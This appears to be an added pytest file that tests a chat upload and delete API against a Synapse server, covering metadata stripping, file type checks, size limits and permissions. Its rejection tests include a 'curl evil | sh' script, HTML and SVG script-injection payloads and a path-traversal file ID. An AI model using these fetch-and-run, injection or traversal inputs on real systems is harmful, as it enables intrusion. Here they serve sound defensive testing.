@@ -1,0 +1,224 @@
+"""POST/DELETE /api/chat/upload against a real Synapse, with downloads through Synapse's media API."""
+
+from __future__ import annotations
+
+import hashlib
+import hmac
+import io
+import secrets
+from typing import Any
+
+import pytest
+import requests
+from PIL import Image
+
+import media_samples as samples
+from media_samples import download, upload
+from harness import Api, SERVER_NAME, SynapseServer, expect_error, nio_login, run
+
+IMAGE_LIMIT = 20 * 1024 * 1024  # the schema's default for images
+
+
+@pytest.fixture(scope="module")
+def alice(api: Api) -> dict[str, Any]:
+    return api.register()
+
+
+@pytest.fixture(scope="module")
+def bob(api: Api) -> dict[str, Any]:
+    return api.register()
+
+
+@pytest.fixture(scope="module")
+def api(server: SynapseServer) -> Api:  # module-scoped twin of conftest's `api`
+    return Api(server.base_url)
+
+
+def register_admin(server: SynapseServer) -> dict[str, Any]:
+    """A server admin, created through Synapse's shared-secret registration."""
+    import yaml
+
+    secret = yaml.safe_load((server.workdir / "secrets.yaml").read_text())["registration_shared_secret"]
+    nonce = requests.get(server.base_url + "/_synapse/admin/v1/register", timeout=10).json()["nonce"]
+    username, password = f"admin_{secrets.token_hex(4)}", "admin password 123"
+    mac = hmac.new(secret.encode(), digestmod=hashlib.sha1)
+    mac.update(b"\x00".join([nonce.encode(), username.encode(), password.encode(), b"admin"]))
+    body = {"nonce": nonce, "username": username, "password": password, "admin": True, "mac": mac.hexdigest()}
+    response = requests.post(server.base_url + "/_synapse/admin/v1/register", json=body, timeout=10)
+    assert response.status_code == 200, response.text
+    return response.json()
+
+
+# --- images -----------------------------------------------------------------------------------
+
+
+def test_image_upload_strips_gps_and_serves_through_synapse(api: Api, alice: dict[str, Any]) -> None:
+    original = samples.jpeg_with_gps()
+    with Image.open(io.BytesIO(original)) as im:
+        assert im.getexif().get_ifd(0x8825)  # the sample really carries GPS
+    response = upload(api, alice, "image", original, "image/jpeg", filename="wound.jpg")
+    assert response.status_code == 201, response.text
+    body = response.json()
+    assert body["media_url"] == f"mxc://{SERVER_NAME}/{body['file_id']}"
+    assert (body["file_name"], body["mime_type"], body["width"], body["height"]) == ("wound.jpg", "image/jpeg", 64, 48)
+    assert body["thumbnail_url"].startswith(f"{api.base_url}/_matrix/client/v1/media/thumbnail/{SERVER_NAME}/{body['file_id']}?")
+
+    stored = download(api, alice, body["media_url"])
+    assert stored.status_code == 200 and stored.headers["Content-Type"] == "image/jpeg"
+    assert len(stored.content) == body["file_size"] < len(original)
+    with Image.open(io.BytesIO(stored.content)) as im:
+        assert not im.getexif() and not {"exif", "xmp", "comment"} & set(im.info)
+    for marker in (b"MedCam", b"xmpmeta", samples.SECRET_TEXT):
+        assert marker not in stored.content
+
+    thumbnail = api.session.get(body["thumbnail_url"], headers={"Authorization": f"Bearer {alice['access_token']}"}, timeout=10)
+    assert thumbnail.status_code == 200 and thumbnail.headers["Content-Type"].startswith("image/")
+    assert api.call("GET", body["thumbnail_url"].removeprefix(api.base_url)).status_code == 401  # authenticated media
+
+
+@pytest.mark.parametrize(
+    ("make", "mime"),
+    [(samples.png_with_metadata, "image/png"), (samples.webp_with_metadata, "image/webp"), (samples.gif_with_comment, "image/gif")],
+)
+def test_other_image_formats_are_stripped(api: Api, alice: dict[str, Any], make, mime: str) -> None:  # type: ignore[no-untyped-def]
+    response = upload(api, alice, "image", make(), "image/jpeg")  # the declared type is ignored
+    assert response.status_code == 201, response.text
+    assert response.json()["mime_type"] == mime
+    stored = download(api, alice, response.json()["media_url"]).content
+    assert b"MedCam" not in stored and samples.SECRET_TEXT not in stored and b"xmpmeta" not in stored
+
+
+def test_multipart_upload(api: Api, alice: dict[str, Any]) -> None:
+    data = samples.png_with_metadata()
+    response = api.call(
+        "POST", "/api/chat/upload/image", token=alice["access_token"],
+        files={"caption": (None, "left forearm"), "file": ("forearm scan.png", data, "image/png")},
+    )
+    assert response.status_code == 201, response.text
+    body = response.json()
+    assert (body["file_name"], body["mime_type"], body["width"]) == ("forearm scan.png", "image/png", 64)
+    assert Image.open(io.BytesIO(download(api, alice, body["media_url"]).content)).size == (64, 48)
+
+    missing = api.call("POST", "/api/chat/upload/image", token=alice["access_token"], files={"other": ("x.png", data)})
+    assert "file" in expect_error(missing, 400, "M_INVALID_PARAM")["error"]
+
+
+def test_corrupt_and_truncated_images_get_400(api: Api, alice: dict[str, Any]) -> None:
+    jpeg, png = samples.jpeg_with_gps(), samples.png_with_metadata()
+    expect_error(upload(api, alice, "image", jpeg[: len(jpeg) // 2]), 400, "M_INVALID_PARAM")
+    broken = bytearray(png)
+    broken[40] ^= 0xFF  # breaks a chunk's CRC
+    expect_error(upload(api, alice, "image", bytes(broken)), 400, "M_INVALID_PARAM")
+    expect_error(upload(api, alice, "image", b"\xff\xd8\xff\xe0garbage"), 400, "M_INVALID_PARAM")
+
+
+# --- other kinds and validation ---------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("kind", "data", "declared", "filename", "mime"),
+    [
+        ("audio", samples.ogg_opus(), "audio/ogg", "voice.ogg", "audio/ogg"),
+        ("audio", samples.wav(), "audio/wav", None, "audio/wav"),
+        ("audio", samples.mp4(b"soun", b"M4A "), "audio/mp4", "memo.m4a", "audio/mp4"),
+        ("video", samples.mp4(b"vide"), "video/mp4", "echo.mp4", "video/mp4"),
+        ("file", samples.pdf(), "application/pdf", "discharge.pdf", "application/pdf"),
+        ("file", samples.docx(), "application/octet-stream", "letter.docx",
+         "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
+        ("file", b"hr,bp\n72,120/80\n", "text/csv", "vitals.csv", "text/csv"),
+        ("file", b"Plain clinical note.\n", "text/plain", None, "text/plain"),
+        ("file", samples.dicom(), "application/dicom", "ct.dcm", "application/dicom"),
+    ],
+)
+def test_accepted_kinds_round_trip_byte_equal(api: Api, alice: dict[str, Any], kind: str, data: bytes, declared: str, filename: str | None, mime: str) -> None:
+    response = upload(api, alice, kind, data, declared, filename)
+    assert response.status_code == 201, response.text
+    body = response.json()
+    assert (body["mime_type"], body["file_size"]) == (mime, len(data))
+    assert body["file_name"] == (filename or body["file_name"]) and body["file_name"]
+    assert "width" not in body and "thumbnail_url" not in body
+    stored = download(api, alice, body["media_url"])
+    assert stored.content == data and stored.headers["Content-Type"].split(";")[0] == mime
+
+
+@pytest.mark.parametrize(
+    ("kind", "data", "detected"),
+    [
+        ("audio", samples.png_with_metadata(), "image/png"),
+        ("image", samples.pdf(), "application/pdf"),
+        ("file", samples.windows_exe(), "application/x-msdownload"),
+        ("file", b"#!/bin/sh\ncurl evil | sh\n", "text/x-shellscript"),
+        ("file", b"<!doctype html><script>alert(1)</script>", "text/html"),
+        ("image", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "image/svg+xml"),
+        ("file", samples.plain_zip(), "application/zip"),
+        ("video", samples.mp4(b"soun"), "audio/mp4"),
+    ],
+)
+def test_wrong_type_gets_415_naming_the_detected_type(api: Api, alice: dict[str, Any], kind: str, data: bytes, detected: str) -> None:
+    body = expect_error(upload(api, alice, kind, data, "image/jpeg"), 415, "M_INVALID_PARAM")
+    assert detected in body["error"]
+
+
+def test_bad_requests(api: Api, alice: dict[str, Any]) -> None:
+    expect_error(upload(api, alice, "image", b""), 400, "M_INVALID_PARAM")
+    expect_error(upload(api, alice, "spreadsheet", samples.pdf()), 404, "M_NOT_FOUND")
+    expect_error(api.call("POST", "/api/chat/upload/file", data=samples.pdf()), 401, "M_MISSING_TOKEN")
+
+
+def test_over_the_kind_limit_gets_413(api: Api, alice: dict[str, Any]) -> None:
+    too_big = samples.jpeg_with_gps() + b"\x00" * IMAGE_LIMIT
+    body = expect_error(upload(api, alice, "image", too_big, "image/jpeg"), 413, "M_TOO_LARGE")
+    assert str(IMAGE_LIMIT) in body["error"]
+
+    def chunks():  # chunked transfer: no Content-Length, so the size is checked while reading
+        yield samples.jpeg_with_gps()
+        for _ in range(21):
+            yield b"\x00" * (1024 * 1024)
+
+    expect_error(upload(api, alice, "image", chunks(), "image/jpeg"), 413, "M_TOO_LARGE")  # type: ignore[arg-type]
+
+
+# --- deletion ---------------------------------------------------------------------------------
+
+
+def test_delete_by_uploader_or_admin_only(api: Api, server: SynapseServer, alice: dict[str, Any], bob: dict[str, Any]) -> None:
+    first = upload(api, alice, "file", samples.pdf()).json()
+    second = upload(api, alice, "file", samples.pdf()).json()
+    path = f"/api/chat/upload/{first['file_id']}"
+
+    expect_error(api.call("DELETE", path, token=bob["access_token"]), 403, "M_FORBIDDEN")
+    assert download(api, alice, first["media_url"]).status_code == 200
+    assert api.call("DELETE", path, token=alice["access_token"]).status_code == 200
+    expect_error(download(api, alice, first["media_url"]), 404, "M_NOT_FOUND")
+    expect_error(api.call("DELETE", path, token=alice["access_token"]), 404, "M_NOT_FOUND")
+    expect_error(api.call("DELETE", "/api/chat/upload/doesNotExist123", token=alice["access_token"]), 404, "M_NOT_FOUND")
+    expect_error(api.call("DELETE", "/api/chat/upload/..%2F..%2Fhomeserver.db", token=alice["access_token"]), 404, "M_NOT_FOUND")
+
+    admin = register_admin(server)
+    assert api.call("DELETE", f"/api/chat/upload/{second['file_id']}", token=admin["access_token"]).status_code == 200
+    expect_error(download(api, alice, second["media_url"]), 404, "M_NOT_FOUND")
+
+
+# --- Matrix clients -------------------------------------------------------------------------------
+
+
+def test_matrix_client_and_api_share_files(api: Api, server: SynapseServer, alice: dict[str, Any]) -> None:
+    uploaded = upload(api, alice, "image", samples.jpeg_with_gps(), "image/jpeg").json()
+    clean = download(api, alice, uploaded["media_url"]).content
+    nio_bytes = b"nio attachment: ECG trace\n"
+
+    async def as_matrix_client() -> tuple[bytes, str]:
+        client = await nio_login(server.base_url, alice["user_id"], alice["password"])
+        try:
+            fetched = await client.download(mxc=uploaded["media_url"])
+            sent, _ = await client.upload(io.BytesIO(nio_bytes), content_type="text/plain", filename="ecg.txt", filesize=len(nio_bytes))
+            return fetched.body, sent.content_uri
+        finally:
+            await client.close()
+
+    fetched, nio_mxc = run(as_matrix_client())
+    assert fetched == clean  # what the API stored, after stripping
+    assert download(api, alice, nio_mxc).content == nio_bytes  # the app sees what Element sent
+    nio_file_id = nio_mxc.rsplit("/", 1)[1]
+    assert api.call("DELETE", f"/api/chat/upload/{nio_file_id}", token=alice["access_token"]).status_code == 200
+    expect_error(download(api, alice, nio_mxc), 404, "M_NOT_FOUND")
